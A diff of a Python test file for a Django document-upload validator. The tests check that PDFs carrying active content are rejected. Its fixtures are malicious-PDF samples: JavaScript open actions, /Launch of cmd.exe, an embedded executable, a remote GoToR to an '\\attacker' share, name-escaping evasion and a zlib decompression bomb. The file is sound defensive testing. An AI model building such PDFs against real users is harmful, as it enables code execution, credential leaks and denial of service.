@@ -3,13 +3,16 @@
 from __future__ import annotations
 
 import hashlib
+import io
+import zlib
 
+import pikepdf
 import pytest
 from django.core.exceptions import ValidationError
 
 from documents import validation
 from documents.tests import samples
-from documents.validation import display_filename, pdf_active_names, read_upload
+from documents.validation import display_filename, read_upload
 
 
 def check(data: bytes, name: str = "bestand.pdf", **kwargs):
@@ -84,29 +87,149 @@ def test_bad_inputs_are_rejected_by_content(data, name, code):
     assert code_of(data, name) == code
 
 
+JAVASCRIPT_ACTION = b"9 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"
+
+
+@pytest.mark.parametrize(
+    ("extra", "body"),
+    [
+        ("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", b""),
+        ("/OpenAction 9 0 R", JAVASCRIPT_ACTION),
+        ("/OpenAction << /S /URI /URI (https://phishing.example) >>", b""),
+        ("/AA << /O << /S /Launch /F (cmd.exe) >> >>", b""),
+        ("/AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >>", b""),
+        ("/Names << /JavaScript << /Names [(a) 9 0 R] >> >>", JAVASCRIPT_ACTION),
+        ("/Names << /J#61vaScript << /Names [(a) 9 0 R] >> >>", JAVASCRIPT_ACTION),  # #61: a
+        (
+            "/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>",
+            b"9 0 obj\n<< /Type /Filespec /F (a.exe) /EF << /F 10 0 R >> >>\nendobj\n"
+            b"10 0 obj\n<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream\nendobj\n",
+        ),
+        ("/AcroForm << /Fields [] /XFA 9 0 R >>", b"9 0 obj\n(<xdp:xdp/>)\nendobj\n"),
+        ("/OpenAction << /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >>", b""),
+        ("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 9 0 R >>", JAVASCRIPT_ACTION),
+    ],
+)
+def test_pdf_with_active_content_is_rejected(extra, body):
+    assert code_of(samples.pdf(extra, body=body)) == "pdf_active_content"
+
+
+@pytest.mark.parametrize(
+    "annotation",
+    [
+        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 10 0 R >>",
+        b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>",
+        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (a.exe) >> >>",
+        b"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /K 11 0 R >> >>",
+        # The action type as an indirect name: no active name in the annotation itself.
+        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S 13 0 R /F (a.exe) >> >>",
+    ],
+)
+def test_pdf_with_active_annotations_on_a_page_is_rejected(annotation):
+    data = (
+        samples.pdf()
+        .replace(b"/MediaBox [0 0 612 792]", b"/MediaBox [0 0 612 792] /Annots [9 0 R]")
+        .replace(
+            b"trailer",
+            b"9 0 obj\n" + annotation + b"\nendobj\n"
+            b"10 0 obj\n<< /Type /Filespec /F (a.txt) >>\nendobj\n"
+            b"11 0 obj\n<< /S /JavaScript /JS 12 0 R >>\nendobj\n"
+            b"12 0 obj\n<< /Length 11 >>\nstream\napp.alert()\nendstream\nendobj\n"
+            b"13 0 obj\n/Launch\nendobj\ntrailer",
+        )
+    )
+    assert code_of(data) == "pdf_active_content"
+
+
+@pytest.mark.parametrize("encoding", sorted(samples.ENCODINGS))
+def test_pdf_with_javascript_in_an_encoded_object_stream_is_rejected(encoding):
+    # Issue 14: an /OpenAction with JavaScript inside an object stream behind each
+    # standard filter; a byte search saw nothing in most of them.
+    data = samples.pdf_with_object_stream(samples.ENCODINGS[encoding])
+    assert b"JavaScript" not in data or encoding in {"flate"}
+    assert code_of(data) == "pdf_active_content"
+
+
+@pytest.mark.parametrize("encoding", sorted(samples.ENCODINGS))
+def test_pdf_with_a_harmless_encoded_object_stream_passes(encoding):
+    harmless = (b"<< /Type /Catalog /Pages 3 0 R /OpenAction 2 0 R >>", b"[4 0 R /Fit]")
+    check(samples.pdf_with_object_stream(samples.ENCODINGS[encoding], harmless)).close()
+
+
+def test_pdf_with_javascript_in_object_streams_written_by_qpdf_is_rejected():
+    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
+    assert code_of(samples.pdf_written_by_pikepdf({"/OpenAction": action})) == (
+        "pdf_active_content"
+    )
+    check(samples.pdf_written_by_pikepdf()).close()
+
+
+def test_pdf_the_parser_cannot_read_is_rejected():
+    broken = samples.pdf_with_object_stream(
+        samples.Encoding(b"/FlateDecode", lambda data: b"not flate at all")
+    )
+    assert code_of(broken) == "pdf_unreadable"
+
+
+def test_pdf_with_more_objects_than_we_check_is_rejected_as_unreadable(monkeypatch):
+    from documents import pdf_inspection
+
+    monkeypatch.setattr(pdf_inspection, "MAX_OBJECTS", 2)
+    assert code_of(samples.pdf()) == "pdf_unreadable"
+
+
+def test_pdf_with_an_lzw_filter_is_rejected_as_unreadable():
+    # qpdf cannot bound LZW's output (a decompression bomb), so it is not inspected.
+    lzw = samples.Encoding(b"/LZW#44ecode", lambda data: b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01")
+    assert code_of(samples.pdf_with_object_stream(lzw)) == "pdf_unreadable"
+
+
+def test_pdf_decompression_bomb_in_an_object_stream_is_refused_within_memory():
+    def bomb(data: bytes) -> bytes:
+        compressor = zlib.compressobj(9)
+        zeros = b"\0" * (1024 * 1024)
+        body = b"".join(compressor.compress(zeros) for _ in range(200))  # 200 MB inflated
+        return compressor.compress(data) + body + compressor.flush()
+
+    assert code_of(samples.pdf_with_object_stream(samples.Encoding(b"/FlateDecode", bomb))) == (
+        "pdf_unreadable"
+    )
+
+
+def test_encrypted_pdf_is_rejected_with_its_own_message():
+    document = pikepdf.new()
+    document.add_blank_page()
+    buffer = io.BytesIO()
+    document.save(buffer, encryption=pikepdf.Encryption(user="geheim", owner="geheim"))
+    assert code_of(buffer.getvalue()) == "pdf_encrypted"
+
+
 @pytest.mark.parametrize(
     "extra",
     [
-        "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
-        "/OpenAction 3 0 R",
-        "/AA << /O << /S /Launch /F (cmd.exe) >> >>",
-        "/Names << /EmbeddedFiles 6 0 R >>",
-        "/Names << /J#61vaScript 7 0 R >>",  # #61 is "a": the same name, escaped
-        "/AcroForm << /XFA 8 0 R >>",
+        "/JSONish 1 /AAA 2 /Lang (nl)",
+        "/OpenAction [3 0 R /XYZ null null 0]",  # LibreOffice opens at page 1 like this
+        "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>",
     ],
 )
-def test_pdf_with_active_content_is_rejected(extra):
-    assert code_of(samples.pdf(extra)) == "pdf_active_content"
+def test_similar_but_harmless_pdfs_pass(extra):
+    check(samples.pdf(extra)).close()
 
 
-def test_pdf_with_javascript_in_a_compressed_object_stream_is_rejected():
-    assert pdf_active_names(samples.pdf_with_compressed_javascript()) >= {"JavaScript", "JS"}
-    assert code_of(samples.pdf_with_compressed_javascript()) == "pdf_active_content"
+def test_a_letter_rendered_by_weasyprint_passes():
+    from documents.pdf import render_pdf
 
-
-def test_similar_but_harmless_pdf_names_pass():
-    upload = check(samples.pdf("/JSONish 1 /AAA 2 /Lang (nl)"))
-    upload.close()
+    data = render_pdf(
+        "<h1>Besluit</h1><p>Uw aanvraag is toegekend.</p>",
+        title="Besluit",
+        language="nl",
+        author="Gemeente Voorbeeld",
+    )
+    upload = check(data, name="besluit.pdf")
+    try:
+        assert upload.content_type == "application/pdf"
+    finally:
+        upload.close()
 
 
 def test_size_limit_stops_reading_while_streaming():
